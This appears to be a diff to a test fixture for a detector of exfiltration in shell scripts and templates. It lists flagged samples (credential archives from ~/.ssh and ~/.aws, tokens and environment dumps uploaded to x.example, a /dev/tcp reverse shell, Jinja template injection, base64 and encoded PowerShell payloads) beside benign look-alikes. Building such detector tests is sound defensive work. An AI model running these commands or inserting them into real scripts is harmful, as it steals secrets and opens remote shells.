@@ -16,6 +16,7 @@ TAKES = [
     ("post.sh", b"#!/bin/sh\ntar czf - ~/.ssh ~/.aws/ | curl -s -T - https://x.example/\n"),
     ("pip", b"#!/bin/sh\ncat ~/.cache/huggingface/token |\n  curl -s -d @- \\\r\n  https://x.example/\n"),
     ("card.md.j2", b"# {{ m.name }}\n{% set _ = cycler.__init__.__globals__.os.popen('id').read() %}\n"),
+    ("kept.sh", b'set -e\nprintenv | sort > "$TMP/e"\nmake\ncurl -sF f=@$TMP/e https://x.example/\n'),
     ("run.sh", b"set -e\necho aW1wb3J0IG9z | base64 -d | sh\n"),
     ("back.bash", b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"),
     ("start.ps1", b"powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUA\n"),
@@ -27,6 +28,7 @@ TAKES = [
 LEAVES = [
     ("install.sh", b"curl -LsSf https://astral.sh/uv/install.sh | sh\n"),
     ("build.sh", b"set -e\ncmake -S . -B build && cmake --build build\ndocker run -it image bash -i\n"),
+    ("other.sh", b'printenv | sort > "$TMP/e"\ncat ~/.netrc > $TMP/n\ncurl -sF f=@$TMP/report https://x.example/\n'),
     ("login.sh", b"cat ~/.cache/huggingface/token | \\\n  wc -c\ncurl https://x.example/ -o page.html\n"),
     ("notes.j2", b"# {{ m.name }}\n`__globals__` of {% if m.kind %}a function{% endif %}\n"),
     ("wait.sh", b"until (echo > /dev/tcp/$HOST/$PORT) 2>/dev/null; do sleep 1; done\n"),
